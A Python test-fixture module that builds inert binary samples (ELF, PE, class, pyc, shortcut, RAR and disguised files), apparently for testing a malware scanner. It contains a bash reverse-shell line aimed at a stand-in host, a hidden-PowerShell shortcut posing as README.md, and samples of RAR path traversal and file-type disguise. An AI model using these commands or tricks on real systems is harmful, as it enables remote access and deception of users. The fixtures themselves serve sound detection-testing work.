"""Programs for processors and virtual machines, installers, shortcuts, RAR archives: inert all of them.

The images are headers and tables alone: they name what they import, and hold no instruction.
"""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping

MARKER = b"weighbridge-marker: nothing in here runs\n"
_SHELL = b"bash -i >& /dev/tcp/host.example.invalid/4444 0>&1"

_DECODED_PYC = (
    "pw0NCgAAAAAAAAAAAAAAAOMAAAAAAAAAAAAAAAAFAAAAAAAAAPNAAAAAlwBkAGQBbABaAAIAZQECAGUAagIAAAAAAAAAAGQC"
    "pgEAAKsBAAAAAAAAAACmAQAAqwEAAAAAAAAAAAEAZAFTACkD6QAAAABO2iRjSEpwYm5Rb0ozZGxhV2RvWW5KcFpHZGxMVzFo"
    "Y210bGNpY3ApA9oGYmFzZTY02gRleGVj2gliNjRkZWNvZGWpAPMAAAAA+gloaWRkZW4ucHn6CDxtb2R1bGU+cgoAAAABAAAA"
    "czMAAADwAwEBAdgADYANgA2ADdgABIAE0AUVgFbUBRXQFjzRBT3UBT3RAD7UAD7QAD7QAD7QAD5yCAAAAA=="
)
_PLAIN_PYC = (
    "pw0NCgAAAAAAAAAAAAAAAOMAAAAAAAAAAAAAAAABAAAAAAAAAPMMAAAAlwBkAIQAWgBkAVMAKQJjAQAAAAAAAAAAAAAAAgAA"
    "AAMAAADzDAAAAJcAfABkAXoLAABTACkCTun/AAAAqQApAdoBeHMBAAAAIPoIc2NhbGUucHnaBXNjYWxlcgcAAAABAAAAcwsA"
    "AACAANgLDIhziTeATvMAAAAATikBcgcAAAByBAAAAHIIAAAAcgYAAAD6CDxtb2R1bGU+cgkAAAABAAAAcx4AAADwAwEBAfAC"
    "AQET8AABARPwAAEBE/AAAQET8AABARNyCAAAAA=="
)


def samples() -> Iterator[tuple[str, bytes]]:
    """Yield relative file name and bytes."""
    yield from _elf_samples()
    yield from _pe_samples()
    yield from _other_machines()
    yield from _bytecode_samples()
    yield from _shortcut_samples()
    yield from _installer_samples()
    yield from _rar_samples()
    yield from _disguise_samples()


# ELF.


def elf(
    imports: tuple[str, ...] = (),
    *,
    needed: tuple[str, ...] = ("libc.so.6",),
    run_path: str = "",
    data: bytes = MARKER,
    flags: int = 5,
) -> bytes:
    """Build a shared library of 64 bits: one segment, the dynamic tables, no instruction."""
    names = b"\0"
    places: dict[str, int] = {}
    for name in (*imports, *needed, run_path):
        places[name] = len(names)
        names += name.encode() + b"\0"
    symbols = bytes(24) + b"".join(
        struct.pack("<IBBHQQ", places[one], 0x12, 0, 0, 0, 0) for one in imports
    )
    hashes = struct.pack("<II", 1, 1 + len(imports)) + bytes(4 * (2 + len(imports)))
    at_names = 64 + 3 * 56
    at_symbols = -(-(at_names + len(names)) // 8) * 8
    at_hashes = at_symbols + len(symbols)
    at_dynamic = -(-(at_hashes + len(hashes)) // 8) * 8
    tags = [(1, places[one]) for one in needed]
    tags += [(29, places[run_path])] if run_path else []
    tags += [(4, at_hashes), (5, at_names), (6, at_symbols), (10, len(names)), (11, 24), (0, 0)]
    dynamic = b"".join(struct.pack("<QQ", *tag) for tag in tags)
    at_data = at_dynamic + len(dynamic)
    size = at_data + len(data)
    segments = [(1, flags, 0, size), (2, 6, at_dynamic, len(dynamic)), (0x6474E551, 6, 0, 0)]
    head = b"\x7fELF\x02\x01\x01" + bytes(9)
    head += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, len(segments), 0, 0, 0)
    for kind, rights, at, length in segments:
        head += struct.pack("<IIQQQQQQ", kind, rights, at, at, at, length, length, 8)
    body = bytearray(size)
    for at, part in ((0, head), (at_names, names), (at_symbols, symbols), (at_hashes, hashes)):
        body[at : at + len(part)] = part
    body[at_dynamic:at_data] = dynamic
    body[at_data:] = data
    return bytes(body)


def _elf_samples() -> Iterator[tuple[str, bytes]]:
    yield "executables/kernel.twin.so", elf(("memcpy", "cblas_sgemm"))
    yield "executables/server.so", elf(("socket", "connect", "execve"))
    yield "executables/commands.so", elf(("system",), data=_SHELL + b"\0")
    yield "executables/patterns.twin.so", elf(("system",), data=b"/dev/tcp/*/*\0usage: bash [-c text]\0")
    yield "executables/writable.so", elf(flags=7)
    yield "executables/run-path.so", elf(run_path="/tmp/build")
    yield "executables/run-path.twin.so", elf(run_path="$ORIGIN/../lib")
    yield "executables/truncated.so", elf()[:100]
    yield "executables/packed.so", elf(data=b"UPX!" + MARKER)
    yield "executables/injects.so", elf(("process_vm_writev", "connect", "socket"))


# PE.


def pe(
    imports: Mapping[str, tuple[str, ...]],
    *,
    section: bytes = b".text",
    is_library: bool = False,
    subsystem: int = 3,
    flags: int = 0x60000020,
    tail: bytes = b"",
) -> bytes:
    """Build a program for 64-bit Windows: one section that holds the import tables."""
    base = 0x1000
    table_bytes = 20 * (len(imports) + 1)
    body = bytearray(table_bytes)
    for number, (library, names) in enumerate(imports.items()):
        hints = []
        for name in names:
            hints.append(base + len(body))
            body += b"\0\0" + name.encode() + b"\0"
            body += b"\0" * (len(body) % 2)
        at_library = base + len(body)
        body += library.encode() + b"\0"
        body += b"\0" * (-len(body) % 8)
        at_thunks = base + len(body)
        thunks = b"".join(struct.pack("<Q", hint) for hint in hints) + bytes(8)
        body += thunks + thunks
        struct.pack_into(
            "<IIIII", body, 20 * number, at_thunks, 0, 0, at_library, at_thunks + len(thunks)
        )
    body += b"\0" * (-len(body) % 512)
    kind = 0x2022 if is_library else 0x22
    head = b"MZ" + bytes(58) + struct.pack("<I", 64)
    head += b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, kind)
    sizes = (0x20B, 14, 0, len(body), 0, 0, 0, base, 0x140000000, base, 512)
    versions = (6, 0, 0, 0, 6, 0, 0, base + 0x1000, 512, 0, subsystem, 0x8160)
    memory = (1 << 20, 4096, 1 << 20, 4096, 0, 16)
    head += struct.pack("<HBBIIIIIQIIHHHHHHIIIIHHQQQQII", *sizes, *versions, *memory)
    head += bytes(8) + struct.pack("<II", base, table_bytes) + bytes(14 * 8)
    head += section.ljust(8, b"\0") + struct.pack(
        "<IIIIIIHHI", len(body), base, len(body), 512, 0, 0, 0, 0, flags
    )
    return head.ljust(512, b"\0") + bytes(body) + tail


def _pe_samples() -> Iterator[tuple[str, bytes]]:
    kernel = {"KERNEL32.dll": ("GetTickCount", "WinExec")}
    yield "executables/tool.twin.exe", pe({"KERNEL32.dll": ("GetTickCount",)})
    yield "executables/downloader.exe", pe({**kernel, "urlmon.dll": ("URLDownloadToFileA",)})
    yield (
        "executables/packed.exe",
        pe({"KERNEL32.dll": ("LoadLibraryA",)}, section=b"UPX0", flags=0xE0000080),
    )
    yield "executables/driver.sys", pe({"ntoskrnl.exe": ("IoCreateDevice",)}, subsystem=1)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr(zipfile.ZipInfo("readme.txt"), MARKER)
    yield (
        "executables/installer.twin.exe",
        pe({"KERNEL32.dll": ("GetTickCount",)}, tail=archive.getvalue()),
    )


def _macho() -> bytes:
    commands = struct.pack("<II16sQQQQIIII", 0x19, 72, b"__TEXT", 0, 4096, 0, 4096, 7, 7, 0, 0)
    name = b"/usr/lib/libSystem.B.dylib\0".ljust(32, b"\0")
    commands += struct.pack("<IIIIII", 0xC, 24 + len(name), 24, 0, 0x10000, 0x10000) + name
    head = struct.pack("<IIIIIIII", 0xFEEDFACF, 0x0100000C, 0, 6, 2, len(commands), 0x85, 0)
    return (head + commands).ljust(4096, b"\0")


def _other_machines() -> Iterator[tuple[str, bytes]]:
    yield "executables/library.dylib", _macho()
    yield "executables/model.twin.wasm", _wasm([("wasi_snapshot_preview1", "fd_write")])
    yield "executables/page.wasm", _wasm([("env", "emscripten_run_script")])
    yield "executables/carrier.wasm", _wasm([], custom=("extra", elf()))
    yield "executables/truncated.wasm", _wasm([("env", "memory")])[:-3]


def _wasm(imports: list[tuple[str, str]], custom: tuple[str, bytes] | None = None) -> bytes:
    entries = b"".join(_named(module) + _named(name) + b"\0\0" for module, name in imports)
    body = (
        b"\0asm\x01\0\0\0" + _section(1, b"\x01\x60\0\0") + _section(2, bytes([len(imports)]) + entries)
    )
    if custom is not None:
        body += _section(0, _named(custom[0]) + custom[1])
    return body


def _section(kind: int, payload: bytes) -> bytes:
    return bytes([kind]) + _leb128(len(payload)) + payload


def _named(name: str) -> bytes:
    return _leb128(len(name)) + name.encode()


def _leb128(value: int) -> bytes:
    made = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        made.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(made)


# Java, Android, Python, Lua.


def java_class(name: str, calls: tuple[tuple[str, str], ...], texts: tuple[str, ...] = ()) -> bytes:
    """Build a class file that names these members and holds these literals; it has no method."""
    pool: list[bytes] = []

    def add(constant: bytes) -> int:
        pool.append(constant)
        return len(pool)

    def text(words: str) -> int:
        return add(b"\x01" + struct.pack(">H", len(words)) + words.encode())

    def of_class(words: str) -> int:
        return add(b"\x07" + struct.pack(">H", text(words)))

    this = of_class(name)
    above = of_class("java/lang/Object")
    for owner, member in calls:
        named = add(b"\x0c" + struct.pack(">HH", text(member), text("()V")))
        add(b"\x0a" + struct.pack(">HH", of_class(owner), named))
    for words in texts:
        add(b"\x08" + struct.pack(">H", text(words)))
    head = b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 61, len(pool) + 1)
    return head + b"".join(pool) + struct.pack(">HHHHHHH", 0x21, this, above, 0, 0, 0, 0)


def _dex(texts: tuple[str, ...]) -> bytes:
    """Build a dex file whose last two texts are a class and a method of it."""
    ids = 0x70
    types = ids + 4 * len(texts)
    methods = types + 4
    at = methods + 8
    offsets, body = [], b""
    for words in texts:
        offsets.append(at + len(body))
        body += _leb128(len(words)) + words.encode() + b"\0"
    head = b"dex\n035\0" + bytes(0x30)
    head += struct.pack("<IIIIIIIIIIIIII", len(texts), ids, 1, types, 0, 0, 0, 0, 1, methods, 0, 0, 0, 0)
    listed = struct.pack(f"<{len(texts)}I", *offsets) + struct.pack("<I", len(texts) - 2)
    return head + listed + struct.pack("<HHI", 0, 0, len(texts) - 1) + body


def _bytecode_samples() -> Iterator[tuple[str, bytes]]:
    yield "executables/Plain.twin.class", java_class("Plain", (("java/lang/Math", "sqrt"),))
    runtime = ("java/lang/Runtime", "exec")
    yield "executables/Starts.class", java_class("Starts", (runtime,), ("ffmpeg -version",))
    yield "executables/Hostile.class", java_class("Hostile", (runtime,), (_SHELL.decode(),))
    yield "executables/classes.dex", _dex(("LMain;", "Ldalvik/system/DexClassLoader;", "<init>"))
    yield "executables/hidden.pyc", base64.b64decode(_DECODED_PYC)
    yield "executables/__pycache__/scale.cpython-311.pyc", base64.b64decode(_PLAIN_PYC)
    yield "executables/init.luac", b"\x1bLua\x54\0\x19\x93\r\n\x1a\n" + MARKER


# Shortcuts and installers.


def _shortcut(target: str, arguments: str = "", *, share: str = "") -> bytes:
    flags = 0x80 | 0x08 | (0x20 if arguments else 0) | (0x02 if share else 0)
    head = struct.pack("<I", 76) + bytes.fromhex("0114020000000000c000000000000046")
    head += struct.pack("<I", flags) + bytes(36) + struct.pack("<I", 7 if arguments else 1) + bytes(12)
    info = b""
    if share:
        network = struct.pack("<IIIII", 20 + len(share) + 1, 2, 20, 0, 0x20000) + share.encode() + b"\0"
        info = struct.pack("<IIIIIII", 28 + len(network) + 1, 28, 2, 0, 0, 28, 28 + len(network))
        info += network + b"\0"
    texts = [target] + ([arguments] if arguments else [])
    strings = b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in texts)
    return head + info + strings + bytes(4)


def _shortcut_samples() -> Iterator[tuple[str, bytes]]:
    yield "executables/notes.lnk", _shortcut(".\\notes.txt")
    hidden = "-w hidden -c echo weighbridge-marker"
    yield "executables/README.md.lnk", _shortcut("..\\Windows\\System32\\powershell.exe", hidden)
    yield "executables/share.lnk", _shortcut(".\\data", share="\\\\host.example.invalid\\data")
    yield "executables/cut.lnk", _shortcut(".\\notes.txt")[:80]


def ar(members: Mapping[str, bytes]) -> bytes:
    """Build a Unix archive."""
    body = b"!<arch>\n"
    for name, content in members.items():
        head = f"{name:<16}{0:<12}{0:<6}{0:<6}{'100644':<8}{len(content):<10}`\n"
        body += head.encode() + content + b"\n" * (len(content) % 2)
    return body


def _installer_samples() -> Iterator[tuple[str, bytes]]:
    yield "executables/tool.deb", ar({"debian-binary": b"2.0\n", "control.txt": MARKER})
    yield "executables/static.twin.a", ar({"notes.txt": MARKER})
    yield "executables/truncated.a", ar({"notes.txt": MARKER})[:-9]
    yield "executables/tool.rpm", b"\xed\xab\xee\xdb\x03\0\0\0" + MARKER
    yield "executables/dataset.iso", bytes(0x8001) + b"CD001\x01" + MARKER


# RAR.


def _rar_5(*blocks: tuple[int, bytes, bytes]) -> bytes:
    """Build an archive of version 5; each block has a type, its fields, and data."""
    body = b"Rar!\x1a\x07\x01\0"
    for kind, fields, data in (*blocks, (5, b"\0", b"")):
        inner = _leb128(kind) + (b"\x02" + _leb128(len(data)) if data else b"\0") + fields
        sized = _leb128(len(inner)) + inner
        body += struct.pack("<I", zlib.crc32(sized)) + sized + data
    return body


def _rar_member(name: str, data: bytes, *, method: int = 0, flags: int = 0) -> tuple[int, bytes, bytes]:
    fields = _leb128(flags) + _leb128(len(data)) + _leb128(0o644) + _leb128(method << 7) + b"\x01"
    return (2, fields + _leb128(len(name)) + name.encode(), data)


def _rar_4(name: str, data: bytes, *, method: int, flags: int = 0) -> bytes:
    head = b"Rar!\x1a\x07\0" + struct.pack("<HBHH6s", 0, 0x73, 0, 13, bytes(6))
    fields = struct.pack("<IIBIIBBHI", len(data), len(data), 3, 0, 0, 29, method, len(name), 0o100644)
    member = (
        struct.pack("<HBHH", 0, 0x74, flags | 0x8000, 7 + len(fields) + len(name))
        + fields
        + name.encode()
    )
    return head + member + data + struct.pack("<HBHH", 0, 0x7B, 0x4000, 7)


def _rar_samples() -> Iterator[tuple[str, bytes]]:
    yield "executables/stored.twin.rar", _rar_5((1, b"\0", b""), _rar_member("notes.txt", MARKER))
    yield "executables/packed.rar", _rar_5((1, b"\0", b""), _rar_member("notes.txt", MARKER, method=3))
    yield "executables/climbs.rar", _rar_5((1, b"\0", b""), _rar_member("../../notes.txt", MARKER))
    trick = [_rar_member("card.pdf ", MARKER), _rar_member("card.pdf /card.pdf .cmd", MARKER)]
    yield "executables/folder-trick.rar", _rar_5((1, b"\0", b""), *trick)
    yield "executables/volume.rar", _rar_5((1, b"\x01", b""), _rar_member("notes.txt", MARKER))
    yield "executables/old-encrypted.rar", _rar_4("notes.txt", MARKER, method=0x33, flags=4)
    yield "executables/old-stored.twin.rar", _rar_4("notes.txt", MARKER, method=0x30)
    yield "executables/truncated.rar", _rar_5((1, b"\0", b""), _rar_member("notes.txt", MARKER))[:-20]


# False names, and two kinds at once.


def _disguise_samples() -> Iterator[tuple[str, bytes]]:
    yield "executables/weights.bin", elf()
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr(zipfile.ZipInfo("notes.txt"), MARKER)
    pixel = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
    yield "executables/pixel.gif", pixel + archive.getvalue()
    yield "executables/pixel.twin.gif", pixel
    yield "executables/notes.txt", archive.getvalue()
